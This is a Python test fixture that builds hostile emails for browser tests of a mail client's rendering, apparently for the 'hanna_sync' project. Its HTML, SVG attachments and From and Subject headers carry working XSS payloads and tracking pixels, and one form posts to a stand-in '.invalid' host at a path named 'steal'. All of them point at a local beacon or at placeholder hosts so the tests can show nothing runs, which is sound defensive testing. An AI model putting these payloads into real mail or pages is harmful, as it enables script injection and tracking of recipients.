"""Hostile letters for the browser tests: each tries to run a script or fetch remote content when shown.

Every script, if it ran, would (a) set window.__pwned and top.__pwned, (b) call the BEACON (a recording server
on 127.0.0.1, its URL given) and (c) change document.title: the browser tests assert none of that happened.
Remote content points at hosts under `.invalid` and at 203.0.113.x (TEST-NET-3), which only the recording
proxy ever sees, so a request for them is told apart from Chromium's own. The letters come from a sample
customer's address (C-1003, Šviesa) so a pass archives them and links them to the customer's card.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime

from hanna_sync.demo import sample

SENDER = "Šviesa <sviesa@inbox.lt>"  # C-1003's address in the sample directory
CUSTOMER = "C-1003"
REMOTE_HOSTS = (".invalid", "203.0.113.")  # what the recording proxy must never see a request for
SUBJECT_PREFIX = "XSS "


def script(beacon: str, name: str) -> str:
    """JavaScript that leaves all three marks, with single quotes only (it goes into double-quoted attributes)."""
    return (f"new Image().src='{beacon}/{name}';fetch('{beacon}/{name}/fetch');document.title='pwned';"
            "window.__pwned=1;top.__pwned=1;top.document.title='pwned'")


def _html(beacon: str) -> dict[str, str]:
    """The HTML parts, by name."""
    js = {name: script(beacon, name) for name in (
        "script", "img_onerror", "javascript_link", "svg_onload", "css_expression", "css_url", "iframe_srcdoc")}
    return {
        "script": f"<p>Sąskaita.</p><script>{js['script']}</script>",
        "img_onerror": f'<p>Paveikslas:</p><img src=x onerror="{js["img_onerror"]}">',
        "javascript_link": f'<p><a id="jslink" href="javascript:{js["javascript_link"]}">spauskite čia</a></p>',
        "svg_onload": f'<svg onload="{js["svg_onload"]}" width="10" height="10"><circle r="5"/></svg>',
        "css_expression": f'<div style="width: expression({js["css_expression"]})">plotis</div>'
                          '<style>body { background: url("http://css.tracker.invalid/bg.png") }</style>',
        "css_url": f'<div style="background-image: url(javascript:{js["css_url"]})">fonas</div>'
                   '<div style="background: url(http://203.0.113.21/bg.png)">fonas 2</div>',
        "meta_refresh": f'<html><head><meta http-equiv="refresh" content="0;url={beacon}/meta_refresh">'
                        '</head><body><p>Peradresuojama.</p></body></html>',
        "tracking_pixel": '<p>Naujienos</p><img src="http://pixel.tracker.invalid/open.gif?u=ruta" width="1"'
                          ' height="1"><img src="http://203.0.113.9/p.gif">',
        "srcset": '<img alt="srcset" srcset="http://srcset.tracker.invalid/a.png 1x, http://203.0.113.10/b.png 2x"'
                  ' src="http://src.tracker.invalid/c.png">',
        "body_background": '<html><body background="http://bg.tracker.invalid/bg.png"><p>Fonas.</p></body></html>',
        "base_href": '<html><head><base href="http://base.tracker.invalid/"></head><body>'
                     '<img src="relative.png"><a href="page.html">santykinė nuoroda</a></body></html>',
        "form_action": f'<form action="{beacon}/form_action" method="post"><input name="p" value="slaptas">'
                       '<button id="send">Siųsti</button></form>'
                       '<form action="http://form.tracker.invalid/steal"><input name="q"></form>',
        "iframe": f'<iframe src="http://frame.tracker.invalid/"></iframe><iframe src="{beacon}/iframe"></iframe>'
                  f'<iframe srcdoc="<script>{js["iframe_srcdoc"]}</script>"></iframe>',
        "object_embed": f'<object data="{beacon}/object"></object><object data="http://object.tracker.invalid/x.swf">'
                        '</object><embed src="http://203.0.113.11/e.swf">',
    }


def _attachments(beacon: str) -> dict[str, tuple[str, str, bytes]]:
    """Attachments that a browser would run if it rendered them: name -> (filename, MIME type, bytes)."""
    return {
        "html_attachment": ("sąskaita.html", "text/html",
                            f"<html><body><script>{script(beacon, 'html_attachment')}</script>"
                            "Sąskaita</body></html>".encode()),
        "svg_attachment": ("logotipas.svg", "image/svg+xml",
                           f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(beacon, "svg_attachment")}">'
                           f"<script>{script(beacon, 'svg_attachment_script')}</script>"
                           '<circle r="5"/></svg>'.encode()),
    }


def letters(beacon: str) -> list[tuple[str, bytes]]:
    """(name, raw letter) of every hostile letter, the beacon's URL (http://127.0.0.1:PORT) built in."""
    day = datetime(2025, 4, 1, 8, 0, tzinfo=timezone.utc)
    html = _html(beacon)
    attachments = _attachments(beacon)
    out = []
    for n, name in enumerate([*html, *attachments, "headers", "plain_text"]):
        msg = EmailMessage()
        msg["From"] = SENDER
        msg["To"] = sample.STAFF
        msg["Subject"] = f"{SUBJECT_PREFIX}{name}"
        msg["Date"] = format_datetime(day + timedelta(hours=n))
        msg["Message-ID"] = f"<xss-{name}@inbox.lt>"
        if name == "headers":  # the page's own headers, table and title must escape what the sender chose
            msg.replace_header("Subject", f"{SUBJECT_PREFIX}headers <script>{script(beacon, 'subject')}</script>")
            msg.replace_header("From", "X <sviesa@inbox.lt>")  # written raw below: email would unquote the name
        msg.set_content("Laba diena, žr. priedą." if name in attachments else
                        f"<script>{script(beacon, 'plain_text')}</script> tekstas" if name == "plain_text" else
                        "Tekstinė dalis.")
        if name in html:
            msg.add_alternative(html[name], subtype="html")
        if name in attachments:
            filename, mime, data = attachments[name]
            maintype, subtype = mime.split("/")
            msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
        raw = msg.as_bytes(policy=msg.policy.clone(linesep="\r\n"))
        hostile_from = f'From: "<img src=x onerror={script(beacon, "from")}>" <sviesa@inbox.lt>'.encode()
        out.append((name, raw.replace(b"From: X <sviesa@inbox.lt>", hostile_from)))
    return out


def deliver(user, beacon: str) -> list[str]:
    """Deliver every hostile letter to the user's INBOX on the sandbox Dovecot; their names."""
    out = []
    for name, raw in letters(beacon):
        user.dovecot.deliver(user.login, "INBOX", raw, "")
        out.append(name)
    return out
